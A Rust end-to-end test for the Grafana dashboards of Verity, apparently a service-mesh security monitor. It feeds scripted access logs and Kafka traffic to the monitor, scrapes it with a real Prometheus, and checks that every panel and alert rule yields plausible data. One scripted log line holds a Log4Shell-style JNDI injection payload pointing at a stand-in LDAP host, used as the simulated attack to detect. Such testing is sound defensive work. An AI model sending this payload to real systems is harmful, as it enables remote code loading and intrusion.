//! The Grafana dashboards against a real Prometheus: Verity processes a scripted scenario
//! (mTLS and plaintext traffic, RBAC denials, an attack, a bad record, Kafka input), Prometheus
//! scrapes it, and every panel query of every dashboard must return a non-empty, plausible
//! result. The dashboards' structure is checked too, and the alerting rules for Verity itself
//! must load.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::Value;
use verity_e2e::kafka::Broker;
use verity_e2e::{Verity, eventually, free_port, http_request, repo_root, require};

struct Prometheus {
    child: Child,
    addr: SocketAddr,
    _dir: tempfile::TempDir,
}

impl Drop for Prometheus {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn prometheus_bin() -> Result<PathBuf, String> {
    ["/usr/bin/prometheus", "/usr/local/bin/prometheus"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
        .ok_or_else(|| "prometheus is not installed (scripts/test.sh installs Debian's package)".to_string())
}

fn start_prometheus(target: SocketAddr) -> Result<Prometheus, String> {
    let bin = prometheus_bin()?;
    let dir = tempfile::tempdir().map_err(|e| e.to_string())?;
    let rules = repo_root().join("deploy/prometheus/verity-rules.yml");
    let config = dir.path().join("prometheus.yml");
    std::fs::write(
        &config,
        format!(
            "global: {{scrape_interval: 1s, evaluation_interval: 1s}}\nrule_files: ['{}']\nscrape_configs:\n  - job_name: verity\n    static_configs: [{{targets: ['{target}']}}]\n",
            rules.display()
        ),
    )
    .map_err(|e| e.to_string())?;
    let port = free_port();
    let log = std::fs::File::create(dir.path().join("prometheus.log")).map_err(|e| e.to_string())?;
    let child = Command::new(bin)
        .arg(format!("--config.file={}", config.display()))
        .arg(format!("--storage.tsdb.path={}", dir.path().join("data").display()))
        .arg(format!("--web.listen-address=127.0.0.1:{port}"))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(log)
        .spawn()
        .map_err(|e| e.to_string())?;
    let p = Prometheus {
        child,
        addr: SocketAddr::from(([127, 0, 0, 1], port)),
        _dir: dir,
    };
    if !eventually(Duration::from_secs(30), || {
        http_request(p.addr, "GET", "/-/ready", &[], b"").is_ok_and(|r| r.status == 200)
    }) {
        return Err("prometheus did not become ready".into());
    }
    Ok(p)
}

fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

fn api(p: &Prometheus, path: &str) -> Value {
    let r = http_request(p.addr, "GET", path, &[], b"").expect("prometheus api");
    serde_json::from_slice(&r.body).unwrap_or(Value::Null)
}

fn query(p: &Prometheus, expr: &str) -> Value {
    api(p, &format!("/api/v1/query?query={}", encode(expr)))
}

/// What Grafana would substitute. A minute covers the whole scenario, so a stall of the
/// machine under load does not leave a rate window empty.
fn grafana_expand(expr: &str) -> String {
    expr.replace("$__rate_interval", "1m")
        .replace("$__range", "5m")
        .replace("$instance", ".*")
        .replace("$namespace", ".*")
}

fn now_rfc3339(offset_ms: i64) -> String {
    let ns = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .expect("clock")
        .as_nanos() as i64;
    let ns = ns + offset_ms * 1_000_000;
    verity_model::time::format_rfc3339_ns(ns - ns % 1_000_000)
}

fn inbound(i: i64, principal: Option<&str>, tls: &str, status: u16, details: &str, path: &str) -> String {
    let peer = principal
        .map(|p| format!(r#","downstream_peer_uri_san":"{p}""#))
        .unwrap_or_default();
    format!(
        r#"{{"start_time":"{}","method":"GET","path":"{path}","protocol":"HTTP/1.1","response_code":{status},"response_code_details":"{details}","upstream_cluster":"inbound|8080||","connection_security_policy":"{tls}","requested_server_name":"outbound_.8080_._.pay.pay.svc.cluster.local","authority":"pay.pay:8080"{peer}}}"#,
        now_rfc3339(i - 30_000)
    )
}

fn post(v: &Verity, lines: &[String]) {
    assert_eq!(verity_e2e::post_log_lines(v.http, lines), 200);
}

fn dashboards() -> Vec<(PathBuf, Value)> {
    let dir = repo_root().join("dashboards");
    let mut out: Vec<(PathBuf, Value)> = std::fs::read_dir(&dir)
        .expect("dashboards dir")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .map(|p| {
            let v = serde_json::from_str(&std::fs::read_to_string(&p).expect("read")).expect("dashboard JSON");
            (p, v)
        })
        .collect();
    out.sort_by(|a, b| a.0.cmp(&b.0));
    out
}

fn overlaps(a: &Value, b: &Value) -> bool {
    let r = |g: &Value| {
        let f = |k: &str| g[k].as_i64().unwrap_or(0);
        (f("x"), f("y"), f("x") + f("w"), f("y") + f("h"))
    };
    let (ax0, ay0, ax1, ay1) = r(a);
    let (bx0, by0, bx1, by1) = r(b);
    ax0 < bx1 && bx0 < ax1 && ay0 < by1 && by0 < ay1
}

/// Every dashboard variable and panel query against Prometheus; what is missing or implausible.
fn panel_failures(prom: &Prometheus) -> Vec<String> {
    let mut failures = Vec::new();
    for (path, d) in dashboards() {
        for var in d["templating"]["list"].as_array().into_iter().flatten() {
            let Some(def) = var["definition"].as_str() else {
                continue;
            };
            // label_values(metric, label)
            let inner = def.trim_start_matches("label_values(").trim_end_matches(')');
            let (metric, label) = inner.split_once(',').expect("label_values(metric, label)");
            let values = api(
                prom,
                &format!(
                    "/api/v1/label/{}/values?match[]={}",
                    label.trim(),
                    encode(metric.trim())
                ),
            );
            if values["data"].as_array().is_none_or(Vec::is_empty) {
                failures.push(format!(
                    "{}: variable {} resolves to nothing",
                    path.display(),
                    var["name"]
                ));
            }
        }
        for p in d["panels"].as_array().into_iter().flatten() {
            for t in p["targets"].as_array().into_iter().flatten() {
                let expr = grafana_expand(t["expr"].as_str().unwrap_or_default());
                let r = query(prom, &expr);
                let result = r["data"]["result"].as_array().cloned().unwrap_or_default();
                let values: Vec<f64> = result
                    .iter()
                    .filter_map(|s| s["value"][1].as_str()?.parse::<f64>().ok())
                    .collect();
                let title = p["title"].as_str().unwrap_or("?");
                if r["status"] != "success" || result.is_empty() {
                    failures.push(format!("{}: {title}: no data for {expr} ({r})", path.display()));
                } else if values.iter().any(|x| !x.is_finite() || *x < 0.0) {
                    failures.push(format!("{}: {title}: implausible {values:?}", path.display()));
                } else if p["fieldConfig"]["defaults"]["unit"] == "percentunit" && values.iter().any(|x| *x > 1.0) {
                    failures.push(format!("{}: {title}: a share above 1: {values:?}", path.display()));
                }
            }
        }
    }
    failures
}

#[test]
fn dashboards_are_well_formed() {
    let all = dashboards();
    let uids: Vec<&str> = all.iter().map(|(_, d)| d["uid"].as_str().expect("uid")).collect();
    assert_eq!(uids, vec!["verity-alerts", "verity-pipeline", "verity-posture"]);
    for (path, d) in &all {
        let name = path.display();
        let vars = d["templating"]["list"].as_array().expect("variables");
        assert!(
            vars.iter()
                .any(|v| v["name"] == "DS_PROMETHEUS" && v["type"] == "datasource"),
            "{name}"
        );
        let panels = d["panels"].as_array().expect("panels");
        assert!(!panels.is_empty(), "{name}");
        for (i, p) in panels.iter().enumerate() {
            let title = p["title"].as_str().unwrap_or("?");
            assert_eq!(p["datasource"]["uid"], "${DS_PROMETHEUS}", "{name}: {title}");
            let targets = p["targets"].as_array().expect("targets");
            assert!(!targets.is_empty(), "{name}: {title} has no targets");
            for t in targets {
                assert!(t["expr"].as_str().is_some_and(|e| !e.is_empty()), "{name}: {title}");
                assert_eq!(t["datasource"]["uid"], "${DS_PROMETHEUS}", "{name}: {title}");
            }
            let g = &p["gridPos"];
            assert!(
                g["x"].as_i64().unwrap_or(-1) >= 0
                    && g["x"].as_i64().unwrap_or(0) + g["w"].as_i64().unwrap_or(99) <= 24,
                "{name}: {title}"
            );
            for q in &panels[i + 1..] {
                assert!(!overlaps(g, &q["gridPos"]), "{name}: {title} overlaps {}", q["title"]);
            }
        }
        // Every variable a query uses is defined.
        let defined: Vec<&str> = vars.iter().filter_map(|v| v["name"].as_str()).collect();
        let text = d["panels"].to_string();
        for var in ["$instance", "$namespace"] {
            if text.contains(var) {
                assert!(defined.contains(&&var[1..]), "{name} uses {var} without defining it");
            }
        }
    }
}

#[test]
fn every_panel_query_returns_data_from_a_real_prometheus() {
    let Some(prom_bin) = require(prometheus_bin(), "prometheus") else {
        return;
    };
    let _ = prom_bin;
    let Some(broker) = require(Broker::start(), "Kafka broker") else {
        return;
    };
    broker.create_topic("mesh", 1).expect("topic");
    let dir = tempfile::tempdir().expect("tmp");
    let bootstrap = broker.bootstrap();
    // Besides the pack: one alert per request to /tick, so alerts keep flowing to the outputs.
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).expect("mkdir");
    std::fs::write(
        rules.join("tick.yaml"),
        "id: e2e-tick\ntitle: Tick\nseverity: info\nkind: detection\ndetection:\n  where: path = '/tick'\n",
    )
    .expect("rule");
    let rules = format!("[{}]", rules.display());
    let token = dir.path().join("admin-token");
    std::fs::write(&token, "dash-token").expect("token");
    let token_ref = format!("{{file: '{}'}}", token.display());
    // Least privilege: a candidate policy the scenario's traffic violates (it would deny the
    // API calls the mesh allows), and policies in force with a DENY rule nothing matches.
    let candidate = dir.path().join("candidate.yaml");
    std::fs::write(
        &candidate,
        "apiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\nmetadata: {name: pay-deny-api, namespace: pay}\nspec:\n  action: DENY\n  rules:\n  - to: [{operation: {paths: [/api]}}]\n",
    )
    .expect("candidate");
    let in_force = dir.path().join("in-force.yaml");
    std::fs::write(
        &in_force,
        "apiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\nmetadata: {name: pay-allow-shop, namespace: pay}\nspec:\n  rules:\n  - from: [{source: {namespaces: [shop]}}]\n---\napiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\nmetadata: {name: deny-legacy, namespace: pay}\nspec:\n  action: DENY\n  rules:\n  - to: [{operation: {paths: [/legacy/*]}}]\n",
    )
    .expect("in force");
    let candidates = format!("[{:?}]", candidate.display().to_string());
    let in_force = format!("[{:?}]", in_force.display().to_string());
    let v = Verity::start_in(
        dir,
        &[
            ("VERITY__RULES__DIRS", &rules),
            ("VERITY__SINKS__OUTPUTS__STDOUT__ENABLED", "false"),
            ("VERITY__KAFKA__ENABLED", "true"),
            ("VERITY__KAFKA__BROKERS", &bootstrap),
            ("VERITY__KAFKA__TOPICS", "[{name: mesh, encoding: raw}]"),
            ("VERITY__KAFKA__PROPERTIES__STATISTICS.INTERVAL.MS", "1000"),
            ("VERITY__RULES__REVOKED", "[cluster.local/ns/shop/sa/cart]"),
            ("VERITY__CONTROL__MODE", "enforce"),
            ("VERITY__ADMIN__TOKEN", &token_ref),
            ("VERITY__POLICY__SHADOW__ENABLED", "true"),
            ("VERITY__POLICY__SHADOW__CANDIDATES", &candidates),
            ("VERITY__POLICY__DRIFT__ENABLED", "true"),
            ("VERITY__POLICY__IN_FORCE", &in_force),
        ],
    );

    let prom = require(start_prometheus(v.admin), "prometheus").expect("prometheus");
    // Let Prometheus see the revocation counters at 0 first.
    assert!(eventually(Duration::from_secs(20), || {
        query(&prom, "up{job=\"verity\"}")["data"]["result"][0]["value"][1] == "1"
    }));
    // One revocation by hand, so the revocation panels have something to show.
    let r = http_request(
        v.admin,
        "POST",
        "/revocations",
        &[
            ("Authorization", "Bearer dash-token"),
            ("Content-Type", "application/json"),
        ],
        br#"{"principal": "spiffe://cluster.local/ns/shop/sa/legacy", "ttl": "1h"}"#,
    )
    .expect("revoke");
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));

    // The scenario, in event time over the last minute.
    let cart = "spiffe://cluster.local/ns/shop/sa/cart";
    let mut lines = Vec::new();
    for i in 0..20 {
        lines.push(inbound(i * 100, Some(cart), "mutual_tls", 200, "via_upstream", "/api"));
    }
    for i in 0..5 {
        lines.push(inbound(3000 + i * 100, None, "none", 200, "via_upstream", "/api"));
    }
    for i in 0..12 {
        lines.push(inbound(
            5000 + i * 100,
            Some(cart),
            "mutual_tls",
            403,
            "rbac_access_denied_matched_policy[ns[pay]-policy[deny-cart]-rule[0]]",
            "/admin",
        ));
    }
    lines.push(inbound(
        7000,
        Some(cart),
        "mutual_tls",
        200,
        "via_upstream",
        "/${jndi:ldap://203.0.113.5/a}",
    ));
    lines.push("this is not an access log line".to_string());
    post(&v, &lines);
    // Kafka brings more traffic.
    {
        use rdkafka::producer::{BaseProducer, BaseRecord, Producer};
        let p: BaseProducer = rdkafka::ClientConfig::new()
            .set("bootstrap.servers", &bootstrap)
            .create()
            .expect("producer");
        for i in 0..10 {
            let l = inbound(10_000 + i * 10, Some(cart), "mutual_tls", 200, "via_upstream", "/api");
            p.send(BaseRecord::<(), _>::to("mesh").payload(&l)).expect("produce");
        }
        p.flush(Duration::from_secs(10)).expect("flush");
    }
    assert!(eventually(Duration::from_secs(30), || {
        v.metric_value("verity_kafka_messages_total{topic=\"mesh\",partition=\"0\"}") == Some(10.0)
            && v.metrics_text().contains("verity_kafka_consumer_lag{")
    }));
    // Live traffic while Prometheus scrapes: rates, ratios and quantiles need samples that
    // change within their window (with none, Grafana shows gaps: 0/0 is NaN).
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let feeder = {
        let (stop, http) = (stop.clone(), v.http);
        let cart = cart.to_string();
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let lines = [
                    inbound(30_000, Some(&cart), "mutual_tls", 200, "via_upstream", "/api"),
                    inbound(30_000, None, "none", 200, "via_upstream", "/api"),
                    inbound(30_000, Some(&cart), "mutual_tls", 200, "via_upstream", "/tick"),
                ];
                let _ = verity_e2e::post_log_lines(http, &lines);
                std::thread::sleep(Duration::from_millis(300));
            }
        })
    };
    // Enough scrapes for rates over the test window.
    assert!(eventually(Duration::from_secs(30), || {
        query(&prom, "count_over_time(up{job=\"verity\"}[1m])")["data"]["result"][0]["value"][1]
            .as_str()
            .and_then(|s| s.parse::<f64>().ok())
            .is_some_and(|n| n >= 6.0)
    }));

    let rules = api(&prom, "/api/v1/rules");
    let loaded = rules["data"]["groups"][0]["rules"].as_array().map_or(0, Vec::len);
    assert!(loaded >= 8, "alerting rules for Verity itself are loaded: {rules}");

    // The feeder may have started only just now (the Kafka wait can be long on a loaded
    // machine), so a rate can still be 0/0 for a scrape or two: ask again until every panel
    // has data or the deadline passes, and report what was still missing then.
    let mut failures = panel_failures(&prom);
    let deadline = std::time::Instant::now() + Duration::from_secs(45);
    while !failures.is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_secs(1));
        failures = panel_failures(&prom);
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    feeder.join().expect("feeder");
    assert!(failures.is_empty(), "{}\n{}", failures.join("\n"), v.stderr());

    // Plausible, not just present: the scenario's facts show through.
    let denials = query(
        &prom,
        "sum(verity_mesh_denials_total{decision=\"deny_rbac\",policy=\"pay/deny-cart\"})",
    );
    assert_eq!(denials["data"]["result"][0]["value"][1], "12");
    let lag = query(&prom, "time() - max(verity_event_time_watermark_seconds)");
    let lag: f64 = lag["data"]["result"][0]["value"][1]
        .as_str()
        .and_then(|s| s.parse().ok())
        .expect("lag");
    assert!((0.0..120.0).contains(&lag), "event-time lag {lag}");
    let violated = query(&prom, "verity_assertion_state{assertion=\"zt-plaintext-to-mesh\"}");
    assert_eq!(violated["data"]["result"][0]["value"][1], "1", "{violated}");
    let dropped = query(&prom, "sum(verity_alerts_dropped_total)");
    assert_eq!(dropped["data"]["result"][0]["value"][1], "0");
}
